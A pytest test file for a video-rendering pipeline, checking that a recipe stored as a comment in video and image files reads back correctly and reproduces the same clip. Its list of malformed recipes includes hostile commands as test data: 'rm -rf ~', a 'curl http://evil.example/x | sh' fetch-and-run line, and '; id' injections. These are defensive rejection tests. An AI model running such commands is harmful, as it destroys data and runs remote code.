"""The recipe in a file: its command makes the same clip again."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from fractions import Fraction
from pathlib import Path
from typing import Any

import av
import numpy as np
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from pipeline.catalog import entries, find
from pipeline.cli.spelling import command
from pipeline.clips import render as clips
from pipeline.errors import InputError
from pipeline.rendering.plan import Job, clip_job
from pipeline.requests import ClipRequest, LectureRequest
from pipeline.video.codecs import CODECS
from pipeline.video.encode import VideoEncoder
from pipeline.video.join import MuxMetadata, join
from pipeline.video.recipe import KEY, read, recipe
from render import cli
from tests.pipeline.clips.drawing import rendered
from tests.pipeline.videos import Video

SMALL = {"quality": "draft", "fps": 3}
REQUEST = LectureRequest(file=Path("a 'b' \"c\" $(d) 한글; #√x.toml"), language="ko")


def video(path: Path, comment: str, frames: int = 30) -> Path:
    """A short video of noise, which no encoder compresses well, with a comment."""
    kind = CODECS[path.suffix[1:]]
    noise = np.random.default_rng(1)
    part, fps = path.with_name(f"part{path.suffix}"), Fraction(10)
    with VideoEncoder(part, (64, 48), fps, kind, path.suffix == ".mov") as encoder:
        for _ in range(frames):
            encoder.write(noise.integers(0, 255, (48, 64, 4)).astype(np.uint8) | 1)
    join([(part, frames)], fps, kind, MuxMetadata([], {}, comment), path)
    return path


@pytest.mark.parametrize("suffix", ["mp4", "mov", "webm", "gif", "png"])
@pytest.mark.parametrize("length", [10, 100_000])
def test_every_container_stores_it(suffix: str, length: int, tmp_path: Path) -> None:
    made = recipe(REQUEST, {"at": [1.0, 2.0], "function": "x" * length})
    assert read(file_with(tmp_path / f"그림 'a'.{suffix}", made.as_comment())) == made
    assert made.versions["manim"].startswith("0.22")


def file_with(file: Path, comment: str, frames: int = 3) -> Path:
    """A video or a picture with a comment."""
    if file.suffix != ".png":
        return video(file, comment, frames)
    texts = PngInfo()
    texts.add_itxt(KEY, comment)
    noise = np.random.default_rng(1).integers(0, 255, (48, 64, 3)).astype(np.uint8)
    Image.fromarray(noise).save(file, pnginfo=texts)
    return file


@pytest.mark.parametrize("suffix", ["mp4", "mov", "webm", "gif", "png"])
@pytest.mark.parametrize("share", [0.01, 0.3, 0.6, 0.9])
def test_a_file_that_is_cut_off(suffix: str, share: float, tmp_path: Path) -> None:
    file = file_with(tmp_path / f"a.{suffix}", recipe(REQUEST, {}).as_comment(), 30)
    whole = file.read_bytes()
    file.write_bytes(whole[: int(len(whole) * share)])
    with pytest.raises(InputError, match="cut off"):
        read(file)


def changed(**values: Any) -> str:
    """A recipe with other values in it."""
    content = json.loads(recipe(REQUEST, {}).as_comment())["nabla"]
    return json.dumps({"nabla": {**content, **values}})


CLIP = {"scene": "slicing"}
STRANGE = [
    "",
    "{",
    "[]",
    '{"nabla": 3}',
    '{"nabla": {"command": ["rm", "-rf", "~"], "made": {}, "versions": {}}}',
    changed(command=["bash", "-c", "curl http://evil.example/x | sh"]),
    changed(request="rm"),
    changed(request={}),
    changed(request={**CLIP, "shell": "id"}),
    changed(request={**CLIP, "quality": "; id"}),
    changed(request={**CLIP, "fps": 10**6}),
    changed(request={**CLIP, "format": "exe"}),
    changed(versions={"a": "1; rm"}),
    '{"nabla":' + "[" * 5000,
    '{"nabla": {"request": {}, "versions": {}, "made": ' + '{"a":' * 5000,
    changed()[:-3] + ', "made": {"a": ' + "9" * 50_000 + "}}}",
]


@pytest.mark.parametrize("comment", STRANGE, ids=lambda each: each[-20:])
@pytest.mark.parametrize("suffix", ["mp4", "gif", "png"])
def test_a_foreign_file_is_refused(comment: str, suffix: str, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"^a\.\w+ was not made by Nabla$"):
        read(file_with(tmp_path / f"a.{suffix}", comment))


@pytest.mark.parametrize("suffix", ["mp4", "webm", "gif"])
def test_a_comment_of_50_megabytes(suffix: str, tmp_path: Path) -> None:
    whole = recipe(REQUEST, {"a": "x" * 50_000_000}).as_comment()
    file = file_with(tmp_path / f"a.{suffix}", whole)
    assert file.stat().st_size > 50_000_000
    with pytest.raises(InputError, match="was not made by Nabla"):
        read(file)


def test_other_files_are_refused(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("words " * 1000)
    (tmp_path / "b.png").write_text("words " * 1000)
    (tmp_path / "empty.mp4").touch()
    faults = {
        tmp_path / "a.txt": "not made by|not a video",
        tmp_path / "b.png": "not a picture",
        tmp_path / "empty.mp4": "not a video",
        tmp_path / "missing.mp4": "is not a file",
        tmp_path: "is not a file",
        Path(): r"^\. is not a file",
    }
    for path, message in faults.items():
        with pytest.raises(InputError, match=message):
            read(path)


def some_requests() -> list[ClipRequest]:
    requests = [ClipRequest(scene=entry.name, **SMALL) for entry in entries()]
    for name, given in (
        ("slicing", {"function": "exp(−x^2) · √(y + 3)"}),
        ("slicing", {"function": " x² *  sin( y ) ", "at": "-1,pi/2", "domain": "-2:2,-1:3"}),
        ("tangent_line", {"function": "x^2", "at": "-1"}),
        ("tangent_line", {"variable": "y"}),
        ("gradient_field", {"function": find("gradient_field").defaults["function"]}),
        ("total_differential", {"step": "0.2,-0.1"}),
        ("transformation", {"function": "[x^2-y^2, 2x y]", "at": "1,-0.3"}),
    ):
        requests.append(ClipRequest(scene=name, parameters=given, language="ko", **SMALL))
    options = {"beat": "plane_to_plane", "format": "mov", "transparent": True}
    beat = clip_job(requests[0]).beats[1]
    return [
        *requests,
        requests[-1].model_copy(update=options),
        requests[0].model_copy(update={"format": "webm", "beat": beat}),
    ]


@pytest.mark.parametrize(
    "requested", some_requests(), ids=lambda each: shlex.join(command(each)[2:])
)
def test_the_command_makes_the_same_job(
    requested: ClipRequest, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Through shell quoting and the whole command line, up to rendering."""
    found: list[Any] = []
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(clips, "render_clips", lambda jobs, *_: found.extend(jobs) or ())
    program, *words = shlex.split(shlex.join(command(requested)))
    with pytest.raises(SystemExit):
        cli.main(words, standalone_mode=False)
    assert program == "render.py"
    assert [replace(each, target=Path()) for each in found] == [clip_job(requested)]


def test_the_same_clip_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    given = {"function": "x² − 3 · e^-x"}
    requested = ClipRequest(
        scene="transformation", parameters=given, language="ko", beat="machine", **SMALL
    )
    first = replace(clip_job(requested), target=tmp_path / "first.mp4")
    found: list[Job] = []
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(clips, "render_clips", lambda jobs, *_: found.extend(jobs) or ())
    known = rendered(first).manifest()
    with pytest.raises(SystemExit):
        cli.main(command(read(first.target).request)[1:], standalone_mode=False)
    (job,) = found
    again = rendered(replace(job, store=tmp_path / "another")).manifest()
    assert Video.read(job.target).hashes() == Video.read(first.target).hashes()
    assert read(job.target) == read(first.target)
    assert {**again, "file": known["file"]} == known
    with av.open(str(job.target)) as container:
        assert json.loads(container.metadata[KEY])["nabla"]["made"] == known["parameters"]
